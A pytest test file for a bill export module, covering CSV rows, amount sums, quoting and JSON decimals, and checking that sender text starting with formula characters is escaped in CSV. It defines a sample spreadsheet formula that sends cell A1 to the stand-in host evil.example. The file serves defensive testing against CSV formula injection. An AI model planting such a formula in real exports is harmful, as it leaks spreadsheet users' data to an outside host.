"""A bill as CSV and JSON: exact amounts, and texts that stay texts."""

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest

from postledger.finance.exports.documents import write_csv, write_json
from tests.parts.exporting import make_bill

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_csv_has_a_row_for_each_line_and_the_amounts_sum_to_the_bill() -> None:
    rows = rows_of(write_csv(make_bill()))

    assert [(row["line"], row["account"], row["amount"]) for row in rows] == [("1", "6010", "12.50"), ("2", "", "7.50")]
    assert {row["bill_amount"] for row in rows} == {"20.00"} == {str(sum(Decimal(row["amount"]) for row in rows))}
    assert (rows[0]["bill"], rows[0]["payee"], rows[0]["period"]) == ("2026-10-456-USD-1", "456", "2026-10")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_a_text_of_a_sender_is_no_formula_in_a_spreadsheet(begin: str) -> None:
    (row,) = rows_of(write_csv(make_bill([(f"{begin}1+1", f"{begin}A1", "-1.00")], payee_name=f"{begin}cmd")))

    assert all(row[name].startswith(f"'{begin}") for name in ("category", "account", "payee_name"))
    assert (row["amount"], row["bill_amount"]) == ("-1.00", "-1.00"), "an amount stays a number"


def test_a_comma_a_quote_and_a_line_break_stay_in_their_cell() -> None:
    (row,) = rows_of(write_csv(make_bill([('a,"b"\nc', None, "1.00")])))

    assert row["category"] == 'a,"b"\nc'


@pytest.mark.parametrize("amount", ["1234567890123.45", "100", "0.005", "1E+3"])
def test_amounts_in_json_are_text_with_all_digits(amount: str) -> None:
    data: Any = json.loads(write_json(make_bill([("Sales", None, amount)])))

    assert data["amount"] == data["lines"][0]["amount"] == f"{Decimal(amount):f}"


def test_json_has_every_fact_of_the_bill() -> None:
    data: Any = json.loads(write_json(make_bill([(FORMULA, "6010", "1.00")])))

    assert (data["period"], data["day"], data["payee_name"]) == ("2026-10", "2026-11-02", "Affiliate 456")
    assert data["lines"] == [
        {
            "nth": 1, "category": FORMULA, "account": "6010", "tax_code": None, "exact": "1.00", "amount": "1.00",
            "items": 1,
        },
    ]  # fmt: skip
